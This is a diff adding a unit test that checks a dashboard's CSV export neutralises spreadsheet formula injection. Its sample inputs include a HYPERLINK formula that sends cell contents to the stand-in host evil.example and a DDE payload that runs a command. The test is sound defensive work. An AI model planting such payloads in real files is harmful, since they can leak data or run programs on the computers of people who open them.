@@ -1075,6 +1075,28 @@ def test_a_database_that_refuses_the_dashboard_says_what_to_correct(dashboard_en
         assert "wrong-pw" not in " ".join(e.value for e in [*at.text, *at.markdown, *at.error])
 
 
+def test_csv_downloads_keep_formulas_people_sent_as_text():
+    table = pd.DataFrame(
+        {
+            "title": ['=HYPERLINK("http://evil.example/?d="&B2,"more")', "Heat", "-3+cmd|'/C calc'!A0", None],
+            "feature_value": ["@SUM(1+1)", "+41+1", "\tTab", "Drama"],
+            "score": [-0.15, 0.5, -1.0, 0.0],
+            "dislikes": [1, 2, 3, 4],
+        }
+    )
+    safe = ui.spreadsheet_safe(table)
+    assert list(safe["title"])[:3] == [
+        '\'=HYPERLINK("http://evil.example/?d="&B2,"more")',
+        "Heat",
+        "'-3+cmd|'/C calc'!A0",
+    ]
+    assert list(safe["feature_value"]) == ["'@SUM(1+1)", "'+41+1", "'\tTab", "Drama"]
+    assert list(safe["score"]) == [-0.15, 0.5, -1.0, 0.0] and list(safe["dislikes"]) == [1, 2, 3, 4]
+    assert list(table["feature_value"])[0] == "@SUM(1+1)"  # the table shown stays as it was
+    lines = safe.to_csv(index=False).splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(") and ",-0.15," in lines[1]
+
+
 # ---------------------------------------------------------------- formats and charts (pure)
 
 
